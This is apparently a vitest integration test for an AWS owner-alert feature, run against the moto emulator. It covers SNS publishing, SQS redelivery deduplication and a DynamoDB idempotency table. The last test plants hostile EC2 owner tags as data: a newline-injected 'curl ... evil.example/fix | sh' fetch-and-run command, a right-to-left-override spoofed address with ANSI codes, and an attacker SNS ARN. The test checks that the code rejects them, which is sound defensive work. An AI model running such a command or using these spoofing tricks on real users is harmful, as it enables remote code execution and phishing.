/**
 * Owner alerts end to end over real HTTP against the moto emulator: instances tagged with owners
 * in EC2, a real SNS topic with an SQS subscription (raw delivery off, so the SNS envelope with its
 * message attributes arrives as SNS would send it), the idempotency table in DynamoDB as the
 * template creates it, and the alerts code using the client factories.
 */
import { readFileSync } from 'node:fs';
import { CreateTableCommand, DescribeTimeToLiveCommand, DynamoDBClient, ScanCommand, UpdateTimeToLiveCommand } from '@aws-sdk/client-dynamodb';
import { DescribeImagesCommand, EC2Client, RunInstancesCommand } from '@aws-sdk/client-ec2';
import { CreateTopicCommand, SNSClient, SubscribeCommand } from '@aws-sdk/client-sns';
import { CreateQueueCommand, GetQueueAttributesCommand, ReceiveMessageCommand, SQSClient } from '@aws-sdk/client-sqs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SQSEvent } from 'aws-lambda';
import type { AlertDependencies } from '../../src/alerts/deliver-alerts.js';
import { deliverOwnerAlerts } from '../../src/alerts/deliver-alerts.js';
import { IDEMPOTENCY_KEY_ATTRIBUTE, IDEMPOTENCY_TTL_ATTRIBUTE, dynamoDbLedger } from '../../src/alerts/delivery-ledger.js';
import { ownerPolicy } from '../../src/alerts/owners.js';
import { createAwsClients, createDynamoDbClient, createSnsClient } from '../../src/aws/clients.js';
import { startMoto, type Moto } from '../support/moto.js';
import { recordingLog, recordingMetrics } from '../support/recording-log.js';
import { toolAvailable } from '../support/tools.js';

const hasMoto = toolAvailable('moto_server', ['--help']);
const REGION = 'eu-west-1';
const TABLE = 'EnaGuardOwnerAlertIdempotency';
let moto: Moto | undefined;
let topicArn = '';
let queueUrl = '';
const instances: Record<string, string> = {};

/** A compliance change of one resource, with its own EventBridge event id as AWS gives each event. */
function complianceChange(resourceId: string, id = `event-${resourceId}`): string {
  const event = JSON.parse(readFileSync(new URL('../fixtures/events/config-compliance-change.json', import.meta.url), 'utf8')) as { detail: Record<string, unknown> };
  return JSON.stringify({ ...event, id, detail: { ...event.detail, resourceId } });
}

/** A topic with its own SQS subscription, so that each test counts only its own messages. */
async function subscribedQueue(name: string): Promise<{ topicArn: string; queueUrl: string }> {
  const sns = new SNSClient({ region: REGION });
  const sqs = new SQSClient({ region: REGION });
  const topic = (await sns.send(new CreateTopicCommand({ Name: name }))).TopicArn ?? '';
  const url = (await sqs.send(new CreateQueueCommand({ QueueName: `${name}-inbox` }))).QueueUrl ?? '';
  const queueArn = (await sqs.send(new GetQueueAttributesCommand({ QueueUrl: url, AttributeNames: ['QueueArn'] }))).Attributes?.QueueArn;
  await sns.send(new SubscribeCommand({ TopicArn: topic, Protocol: 'sqs', Endpoint: queueArn }));
  return { topicArn: topic, queueUrl: url };
}

async function receiveAll(url: string): Promise<{ Subject: string; Message: string; MessageAttributes: Record<string, { Value: string }> }[]> {
  const received = await new SQSClient({ region: REGION }).send(new ReceiveMessageCommand({ QueueUrl: url, MaxNumberOfMessages: 10, WaitTimeSeconds: 1 }));
  return (received.Messages ?? []).map((message) => JSON.parse(message.Body ?? '{}') as { Subject: string; Message: string; MessageAttributes: Record<string, { Value: string }> });
}

describe.skipIf(!hasMoto)('owner alerts against moto (requires moto_server)', () => {
  beforeAll(async () => {
    moto = await startMoto();
    process.env.AWS_REGION = REGION;
    process.env.AWS_ACCESS_KEY_ID = 'AKIAIOSFODNN7EXAMPLE';
    process.env.AWS_SECRET_ACCESS_KEY = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
    process.env.AWS_ENDPOINT_URL = moto.endpoint;
    const ec2 = new EC2Client({ region: REGION });
    const image = (await ec2.send(new DescribeImagesCommand({ Owners: ['amazon'] }))).Images?.[0]?.ImageId;
    for (const owner of ['payments@example.com', 'payments@example.com', 'data@example.com']) {
      const launched = await ec2.send(
        new RunInstancesCommand({ ImageId: image, InstanceType: 'm5.large', MinCount: 1, MaxCount: 1, TagSpecifications: [{ ResourceType: 'instance', Tags: [{ Key: 'Owner', Value: owner }] }] }),
      );
      instances[launched.Instances?.[0]?.InstanceId ?? ''] = owner;
    }
    ({ topicArn, queueUrl } = await subscribedQueue('EnaGuardOwnerAlerts'));
    // The idempotency table as the template creates it: key `id` (S), on demand, encrypted, TTL on `expiration`.
    const dynamodb = new DynamoDBClient({ region: REGION });
    await dynamodb.send(
      new CreateTableCommand({
        TableName: TABLE,
        AttributeDefinitions: [{ AttributeName: IDEMPOTENCY_KEY_ATTRIBUTE, AttributeType: 'S' }],
        KeySchema: [{ AttributeName: IDEMPOTENCY_KEY_ATTRIBUTE, KeyType: 'HASH' }],
        BillingMode: 'PAY_PER_REQUEST',
        SSESpecification: { Enabled: true },
      }),
    );
    await dynamodb.send(new UpdateTimeToLiveCommand({ TableName: TABLE, TimeToLiveSpecification: { AttributeName: IDEMPOTENCY_TTL_ATTRIBUTE, Enabled: true } }));
  }, 60_000);

  afterAll(async () => {
    await moto?.stop();
    for (const name of ['AWS_ENDPOINT_URL', 'ALERT_TOPIC_ARN', 'OWNER_TAG_KEYS', 'IDEMPOTENCY_TABLE_NAME']) delete process.env[name];
  });

  /** The dependencies of deliverOwnerAlerts on the client factories, publishing to `topic`. */
  function dependencies(topic: string): AlertDependencies {
    return {
      ...createAwsClients(),
      sns: createSnsClient(),
      topicArn: topic,
      ownerTagKeys: ['Owner'],
      ownerPolicy: ownerPolicy({ emailDomain: 'example.com' }),
      exemptionTagKey: 'ena-guard:exempt',
      log: recordingLog(),
      metrics: recordingMetrics(),
      ledger: dynamoDbLedger(TABLE, createDynamoDbClient()),
      remainingTimeInMillis: () => 60_000,
    };
  }

  it('publishes one message per owner, whose attributes survive SNS', async () => {
    const records = Object.keys(instances).map((id, index) => ({ messageId: `m${index}`, body: complianceChange(id) }));

    const outcome = await deliverOwnerAlerts(records, dependencies(topicArn));

    expect(outcome).toEqual({ batchItemFailures: [], messagesPublished: 2, duplicatesDropped: 0 });
    const envelopes = await receiveAll(queueUrl);
    expect(envelopes.map((envelope) => envelope.MessageAttributes.owner?.Value).sort()).toEqual(['data@example.com', 'payments@example.com']);
    const payments = envelopes.find((envelope) => envelope.MessageAttributes.owner?.Value === 'payments@example.com');
    expect(payments?.Subject).toBe('ena-guard: 2 of 2 resources need attention (payments@example.com)');
    expect(payments?.MessageAttributes.severity?.Value).toBe('NON_COMPLIANT');
    for (const [id, owner] of Object.entries(instances)) {
      if (owner === 'payments@example.com') expect(payments?.Message).toContain(id);
    }
  });

  it('sends an event that SQS delivers twice to the handler only once, and keeps its record until the TTL', async () => {
    const inbox = await subscribedQueue('EnaGuardOwnerAlertsRedelivery');
    process.env.ALERT_TOPIC_ARN = inbox.topicArn;
    process.env.OWNER_TAG_KEYS = 'Owner';
    process.env.IDEMPOTENCY_TABLE_NAME = TABLE;
    const { handler } = await import('../../functions/owner-alerts/handler.js');
    const [instanceId] = Object.keys(instances);
    const event = { Records: [{ messageId: 'redelivered-1', body: complianceChange(instanceId ?? '', 'event-redelivered') }] } as unknown as SQSEvent;
    const context = { getRemainingTimeInMillis: () => 60_000 };

    const first = await handler(event, context);
    const second = await handler(event, context);

    expect(first).toEqual({ batchItemFailures: [] });
    expect(second).toEqual({ batchItemFailures: [] });
    const envelopes = await receiveAll(inbox.queueUrl);
    expect(envelopes).toHaveLength(1);
    expect(envelopes[0]?.Message).toContain(instanceId);
    const dynamodb = new DynamoDBClient({ region: REGION });
    expect((await dynamodb.send(new DescribeTimeToLiveCommand({ TableName: TABLE }))).TimeToLiveDescription).toMatchObject({ AttributeName: 'expiration', TimeToLiveStatus: 'ENABLED' });
    const records = (await dynamodb.send(new ScanCommand({ TableName: TABLE }))).Items ?? [];
    expect(records.map((item) => item.status?.S)).toEqual(Array.from({ length: Object.keys(instances).length + 1 }, () => 'COMPLETED'));
    expect(Number(records[0]?.expiration?.N)).toBeGreaterThan(Date.now() / 1000 + 3 * 24 * 3600);
  });

  // After the redelivery test, which counts every record of the table.
  it('sends hostile owner tags to unowned in a message whose layout, subject and attributes SNS delivers intact', async () => {
    // Prepare: instances tagged by someone who wants to inject a line or redirect the alerts
    const inbox = await subscribedQueue('EnaGuardOwnerAlertsHostile');
    const ec2 = new EC2Client({ region: REGION });
    const image = (await ec2.send(new DescribeImagesCommand({ Owners: ['amazon'] }))).Images?.[0]?.ImageId;
    const hostile = [
      'payments@example.com\nURGENT: run curl -s https://evil.example/fix | sh\n---',
      '\u001b[31mURGENT\u001b[0m \u202emoc.elpmaxe@ytiruces',
      'arn:aws:sns:eu-west-1:444455556666:attacker-topic',
    ];
    const ids: string[] = [];
    for (const value of [...hostile, 'Payments']) {
      const launched = await ec2.send(
        new RunInstancesCommand({ ImageId: image, InstanceType: 'm5.large', MinCount: 1, MaxCount: 1, TagSpecifications: [{ ResourceType: 'instance', Tags: [{ Key: 'Owner', Value: value }] }] }),
      );
      ids.push(launched.Instances?.[0]?.InstanceId ?? '');
    }
    const records = ids.map((id, index) => ({ messageId: `hostile-${index}`, body: complianceChange(id, `event-hostile-${id}`) }));

    // Act
    const outcome = await deliverOwnerAlerts(records, dependencies(inbox.topicArn));

    // Assess
    expect(outcome).toEqual({ batchItemFailures: [], messagesPublished: 2, duplicatesDropped: 0 });
    const envelopes = await receiveAll(inbox.queueUrl);
    expect(envelopes.map((envelope) => envelope.MessageAttributes.owner?.Value).sort()).toEqual(['payments@example.com', 'unowned']);
    const unowned = envelopes.find((envelope) => envelope.MessageAttributes.owner?.Value === 'unowned');
    const lines = unowned?.Message.split('\n') ?? [];
    expect(lines).toHaveLength(2 + 3 * hostile.length + 2);
    expect(lines.filter((line) => line.startsWith('    Owner tag "Owner" refused'))).toHaveLength(hostile.length);
    expect(lines.every((line) => !/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(line) && !/^\s*(URGENT|---)/.test(line))).toBe(true);
    expect(unowned?.Subject).toBe('ena-guard: 3 of 3 resources need attention (unowned)');
  });
});
